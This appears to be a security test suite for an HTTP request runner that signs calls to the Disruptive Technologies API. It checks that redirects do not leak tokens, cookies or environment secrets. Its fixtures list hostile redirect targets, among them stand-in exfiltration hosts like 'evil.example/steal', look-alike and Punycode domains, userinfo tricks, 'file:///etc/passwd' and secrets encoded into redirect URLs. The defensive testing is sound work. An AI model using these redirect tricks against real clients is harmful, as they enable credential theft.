import assert from 'node:assert/strict';
import { answer, HostileWorld } from '../../helpers/hostileWorld';
import { assertNoTrace, assertTrace, type Planted } from '../../helpers/hostile';
import { everySecret, outcomeOf, secrets, Victim } from './victim';

const statuses = [301, 302, 303, 307, 308];

/** A request to DT that holds all it can of what must not get away. */
interface Shape {
  readonly text: string;
  /** What DT's host must have got, so that there was something to lose. */
  readonly carries: readonly Planted[];
}

const headers = 'X-Api-Key: {{private}}\nX-Stored: {{stored}}\nCookie: a={{private}}\nAccept-Language: {{stored}}\n';
const carried = [secrets.token, secrets.private, secrets.stored];
const shapes: Readonly<Record<string, Shape>> = {
  GET: { text: `GET /projects\n${headers}`, carries: carried },
  HEAD: { text: `HEAD /projects\n${headers}`, carries: carried },
  'GET signed with Basic': { text: `# @auth basic\nGET /projects\n${headers}`, carries: [secrets.private, secrets.stored] },
  'GET with a credential of its own': { text: `@own = ${secrets.own.value}\nGET /projects\nAuthorization: Bearer {{own}}\n${headers}`, carries: [secrets.own, secrets.private] },
  'GET of this machine': { text: 'GET /projects?a={{%process}}\nX-A: {{$processEnv PLANTED}}\nX-B: {{$dotenv PLANTED}}\n', carries: [secrets.token, secrets.process, secrets.dotenv] },
  'GET with the secret in the address': { text: 'GET /projects/{{%stored}}?a={{%private}}', carries: [secrets.token, secrets.private, secrets.stored] },
  'GET with a body': { text: `GET /projects\n${headers}Content-Type: text/plain\n\n{{stored}} {{private}}`, carries: carried },
  POST: { text: `POST /projects\n${headers}\n{ "a": "{{%stored}}" }`, carries: carried },
  PUT: { text: `PUT /projects\n${headers}\n{ "a": "{{%private}}" }`, carries: carried },
  DELETE: { text: `DELETE /projects\n${headers}`, carries: carried },
};

const telling = ['GET', 'GET with a credential of its own', 'POST'];

/** Whether GET and HEAD get there. */
type Reach = 'there' | 'nowhere' | 'DT';

interface Target {
  readonly location: string;
  readonly reach: Reach;
}

const api = 'api.disruptive-technologies.com';
const to = (location: string, reach: Reach): Target => ({ location, reach });

const groups: Readonly<Record<string, Readonly<Record<string, Target>>>> = {
  'another host': {
    'of nobody we know': to('https://evil.example/steal', 'there'),
    'that begins like DT': to(`https://${api}.evil.example/v2/projects`, 'there'),
    'that ends like DT': to(`https://evil-${api}/v2/projects`, 'there'),
    'a hyphen for a dot': to('https://api-disruptive-technologies.com/', 'there'),
    'below DT, but not known': to('https://x.api.disruptive-technologies.com/', 'there'),
    'DT without its first name': to('https://disruptive-technologies.com/', 'there'),
    'a look-alike in Unicode': to('https://аpi.disruptive-technologies.com/', 'there'),
    'a look-alike in Punycode': to('https://xn--pi-6kc.disruptive-technologies.com/', 'there'),
    "DT's documentation": to('https://developer.disruptive-technologies.com/', 'there'),
    'without a scheme': to('//evil.example/steal', 'there'),
    'without a scheme, with backslashes': to('\\\\evil.example\\steal', 'there'),
    'without a scheme, with three slashes': to('///evil.example/steal', 'there'),
    'a scheme without slashes': to('https:evil.example', 'DT'),
    'blanks and tabs in it': to('https://evil.exam\tple/steal ', 'there'),
    'its name in capitals': to('HTTPS://EVIL.EXAMPLE/STEAL', 'there'),
    'a dot at its end': to('https://evil.example./steal', 'there'),
    'the next door machine': to('https://10.0.0.1/steal', 'there'),
  },
  'another port or scheme': {
    "DT's name at another port": to(`https://${api}:444/v2/projects`, 'there'),
    "DT's name at port 80 with TLS": to(`https://${api}:8443/v2/projects`, 'there'),
    "DT's name with a dot at another port": to(`https://${api}.:444/`, 'there'),
    'plain http': to(`http://${api}/v2/projects`, 'nowhere'),
    'plain http at 443': to(`http://${api}:443/v2/projects`, 'nowhere'),
    'plain http elsewhere': to('http://evil.example/steal', 'nowhere'),
    'no http at all': to('ftp://evil.example/steal', 'nowhere'),
    'a file': to('file:///etc/passwd', 'nowhere'),
    'javascript': to('javascript:alert(1)', 'nowhere'),
    'data': to('data:text/plain,hello', 'nowhere'),
  },
  'an address with a user in it': {
    "DT's name as the user": to(`https://${api}@evil.example/`, 'nowhere'),
    "DT's name and port as user and password": to(`https://${api}:443@evil.example/`, 'nowhere'),
    "DT's name as the user, encoded": to(`https://${api}%40evil.example/`, 'nowhere'),
    "DT's name as the user, with a backslash": to(`https://${api}\\@evil.example/`, 'DT'),
    'a user for DT': to(`https://user:password@${api}/v2/projects`, 'nowhere'),
    'an empty user': to('https://@evil.example/', 'there'),
  },
};

/** Where a request that was redirected must not go on, and where a listener hears of it. */
describe('a redirect by a host of DT', () => {
  let world: HostileWorld;
  let victim: Victim;
  before(async () => {
    world = await HostileWorld.start();
    victim = new Victim(world);
  });
  after(() => world.dispose());
  beforeEach(() => world.forget());

  const files = { 'http-client.env.json': JSON.stringify({ $shared: {} }) };
  const attack = async (location: string, status: number, { text, carries }: Shape, name: string) => {
    world.forget();
    let hop = 0;
    world.dt.answering = () => (hop++ === 0 ? answer(status, '', { Location: location }) : answer(200));
    const report = await victim.run(`@process = {{$processEnv PLANTED}}\n\n###\n${text}`, { files });
    const what = `${status} of ${name} to ${location}: ${outcomeOf(report)}`;
    assert.equal(report.kind, 'ran', what);
    assertTrace(`${what}: the first host`, world.dt.octets, carries);
    assertNoTrace(what, world.overheard, everySecret);
    assertNoTrace(`${what}: what is not for DT`, world.identity.octets, everySecret);
    assertNoTrace(`${what}: the key`, Buffer.concat([world.dt.octets, world.identity.octets]), name.includes('Basic') ? [] : [secrets.account]);
    return what;
  };

  for (const [group, targets] of Object.entries(groups)) {
    describe(`to ${group}`, () => {
      for (const [index, [title, { location, reach }]] of Object.entries(targets).entries()) {
        // All that can be sent once in each group; after that what differs in how it is treated.
        const sent = Object.entries(shapes).filter(([name]) => index === 0 || telling.includes(name));
        it(title, async () => {
          for (const status of statuses) {
            for (const [name, shape] of sent) {
              const what = await attack(location, status, shape, name);
              const reading = /^(GET|HEAD)/.test(name) && !(name.endsWith('body') && status >= 307);
              const expected = reading && reach === 'there' ? 1 : 0;
              assert.equal(world.evil.heard.length + world.plain.heard.length, expected, what);
              for (const { method } of world.evil.heard) assert.match(method, /^(GET|HEAD)$/);
            }
          }
        });
      }
    });
  }

  const forms: Readonly<Record<string, (value: string) => string>> = {
    'percent-encoded': encodeURIComponent,
    'percent-encoded to the last character': (value) => [...Buffer.from(value)].map((octet) => `%${octet.toString(16)}`).join(''),
    'percent-encoded twice': (value) => encodeURIComponent(encodeURIComponent(value)),
    'in base64': (value) => encodeURIComponent(Buffer.from(value).toString('base64')),
    'in base64url, behind something else': (value) => Buffer.from(`Bearer ${value}`).toString('base64url'),
    'in hexadecimal': (value) => Buffer.from(value).toString('hex'),
    'in hexadecimal, in capitals': (value) => Buffer.from(value).toString('hex').toUpperCase(),
  };
  describe('to an address of another host that repeats', () => {
    const repeated = { 'the access token': secrets.token, 'a stored secret': secrets.stored, 'a private value': secrets.private, 'a value of the process': secrets.process, 'a credential of its own': secrets.own };
    const shapeOf = (planted: Planted) => (planted === secrets.own ? shapes['GET with a credential of its own'] : planted === secrets.process ? shapes['GET of this machine'] : shapes['GET']);
    for (const [title, planted] of Object.entries(repeated)) {
      for (const [form, write] of Object.entries(forms)) {
        it(`${title} ${form}`, async () => {
          const shape = shapeOf(planted);
          assert.ok(shape);
          for (const location of [`https://evil.example/?a=${write(planted.value)}`, `https://evil.example/${write(planted.value)}/x`]) {
            for (const status of [302, 308]) await attack(location, status, shape, 'GET');
          }
        });
      }
    }

    it('nothing: it is sent on', async () => {
      assert.ok(shapes['GET']);
      await attack('https://evil.example/?a=b', 302, shapes['GET'], 'GET');
      assert.equal(world.evil.heard.length, 1);
    });
  });

  describe('to this machine', () => {
    for (const host of ['127.0.0.1', '127.1', 'localhost', '0x7f000001', '2130706433', '127.0.0.1.', 'LOCALHOST']) {
      it(host, async () => {
        assert.ok(shapes['GET']);
        for (const status of statuses) {
          const what = await attack(`https://${host}:${world.evil.port}/`, status, shapes['GET'], 'GET');
          assert.equal(world.evil.heard.length, 1, what);
        }
      });
    }
  });

  describe('to itself and on', () => {
    const signed = 'GET /projects\nX-Api-Key: {{private}}\n';
    const ways: Readonly<Record<string, readonly [locations: readonly string[], signed: readonly boolean[]]>> = {
      'another path: signed again': [['/v2/other'], [true, true]],
      "DT's emulator: signed again": [[`https://emulator.d21s.com/v2/other`], [true, true]],
      'another host, and from there back: not signed by way of it': [['https://evil.example/1', `https://${api}/v2/other`], [true, false]],
      'another host, and from there to a third': [['https://evil.example/1', 'https://other.example/2'], [true]],
    };
    for (const [title, [locations, expected]] of Object.entries(ways)) {
      it(title, async () => {
        let hop = 0;
        const next = () => {
          const location = locations[hop++];
          return location === undefined ? answer(200) : answer(302, '', { Location: location });
        };
        world.dt.answering = next;
        world.evil.answering = next;
        const report = await victim.run(signed, { files });
        const what = outcomeOf(report);
        assert.match(what, /^answered 200/);
        assert.deepEqual(world.dt.heard.map(({ text }) => text.includes(`Bearer ${secrets.token.value}`)), expected, what);
        assert.equal(world.evil.heard.length, locations.filter((location) => location.includes('example')).length);
        assertNoTrace(what, world.overheard, everySecret);
      });
    }

    it('DT by a stranger: not signed, and what DT answers stays in confidence', async () => {
      const given = secrets.given;
      world.evil.answering = ({ target }) => (target === '/weather' ? answer(302, '', { Location: `https://${api}/v2/keys` }) : answer(200));
      world.dt.answering = () => answer(200, JSON.stringify({ secret: given.value }));
      const report = await victim.run('# @name weather\nGET https://evil.example/weather\n\n###\nPOST https://evil.example/report\n\n{{weather.response.body}}\n', { files });
      const what = outcomeOf(report);
      assert.equal(world.dt.heard.length, 1, what);
      assertNoTrace(what, world.dt.octets, [secrets.token]);
      assert.equal(report.kind === 'refused' && report.findings[0]?.finding.code, 'variable.guarded', what);
      assertNoTrace(what, world.overheard, everySecret);
    });

    it('what it was signed with is not carried on by a host that repeats it', async () => {
      world.evil.answering = ({ text }) => answer(200, JSON.stringify({ seen: /^authorization: (.*)\r$/im.exec(text)?.[1] ?? '' }));
      const report = await victim.run('# @name echo\nGET https://gateway.example/echo\n\n###\nPOST https://evil.example/\n\n{{echo.response.body.$.seen}}\n', { files, allowed: ['https://gateway.example'] });
      const what = outcomeOf(report);
      assertTrace(what, world.evil.octets, [secrets.token]);
      assert.equal(world.evil.heard.length, 1, what);
      assert.equal(report.kind === 'refused' && report.findings[0]?.finding.code, 'variable.guarded', what);
    });

    it('more than ten times: no further', async () => {
      world.dt.answering = ({ target }) => answer(302, '', { Location: `${target}/x` });
      assert.match(outcomeOf(await victim.run(signed, { files })), /redirect\.limit/);
      assert.equal(world.dt.heard.length, 11);
    });
  });
});
